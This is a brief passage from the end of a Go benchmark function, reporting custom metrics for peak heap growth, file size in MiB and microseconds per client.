		b.ReportMetric(float64(peak-min(peak, base))/(1<<20), "peak-heap-MiB")
		b.ReportMetric(float64(st.Size())/(1<<20), "file-MiB")
		b.ReportMetric(float64(elapsed.Microseconds())/float64(clients), "µs/client")
	}
}
